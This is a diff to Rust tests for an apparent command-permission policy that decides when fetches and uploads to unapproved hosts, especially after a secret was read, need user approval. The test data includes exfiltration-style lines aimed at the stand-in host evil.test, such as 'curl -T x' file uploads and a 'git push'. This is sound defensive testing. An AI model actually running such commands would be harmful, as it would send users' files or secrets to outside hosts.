@@ -57,7 +57,7 @@ fn the_question_names_the_host_and_the_parts_that_can_carry_data() {
     assert!(!bare.reasons.join("; ").contains("data can leave"), "{:?}", bare.reasons);
     assert_eq!(decision.strangers, ["evil.test"]);
     let offers: Vec<String> = decision.offers.iter().map(|offer| offer.grant.to_string()).collect();
-    assert_eq!(offers, ["fetch evil.test"]);
+    assert_eq!(offers, ["reach evil.test"]);
 }
 
 #[test]
@@ -79,10 +79,39 @@ fn after_a_secret_was_read_a_name_is_not_enough() {
     let used = tainted(used);
     check(&fetch("https://docs.rs/a"), &used, Verdict::Allow);
     check(&fetch("https://docs.rs/a?k=1"), &used, Verdict::Ask);
-    let mut allowed = tainted(named());
-    allowed.allow("docs.rs");
-    check(&fetch("https://docs.rs/b?k=1"), &allowed, Verdict::Allow);
-    check(&fetch("https://example.org/"), &allowed, Verdict::Ask);
+    let mut once = Trail::default();
+    once.fetched("https://evil.test/a");
+    check(&fetch("https://evil.test/a"), &once, Verdict::Ask);
+    check(&fetch("https://evil.test/a"), &tainted(once), Verdict::Ask);
+}
+
+/// Offers for a command that names a host nobody allowed, where only the host is asked about.
+#[test]
+fn where_only_the_host_asks_it_can_be_allowed_by_itself() {
+    let policy = Policy { has_broker: true, ..policy(Mode::Development) };
+    let offers = |line: &str, approvals| {
+        let decision = decide(&run(line), &policy, &Now::with(approvals));
+        assert_eq!(decision.verdict, Verdict::Ask, "{line}");
+        decision.offers.into_iter().map(|offer| offer.grant).collect::<Vec<_>>()
+    };
+    let (line, other) = ("curl -T x https://evil.test/a", "curl https://evil.test/b");
+    let asked = offers(line, Approvals::Ask);
+    assert_eq!(asked.iter().map(Grant::to_string).collect::<Vec<_>>(), [line]);
+    let auto = offers(line, Approvals::Auto);
+    assert_eq!(auto.iter().map(Grant::to_string).collect::<Vec<_>>(), [line, "reach evil.test"]);
+    for (grant, verdict) in auto.into_iter().zip([Verdict::Ask, Verdict::Allow]) {
+        let grants = [grant];
+        let now = Now { grants: &grants, ..Now::with(Approvals::Auto) };
+        assert_eq!(decide(&run(line), &policy, &now).verdict, Verdict::Allow, "{grants:?}");
+        assert_eq!(decide(&run(other), &policy, &now).verdict, verdict, "{grants:?}");
+    }
+    for line in ["git push https://evil.test/x", "curl https://evil.test/ https://other.test/"] {
+        let offers = offers(line, Approvals::Auto);
+        assert!(
+            offers.iter().all(|grant| matches!(grant.scope, Scope::Command { .. })),
+            "{line}: {offers:?}"
+        );
+    }
 }
 
 #[test]
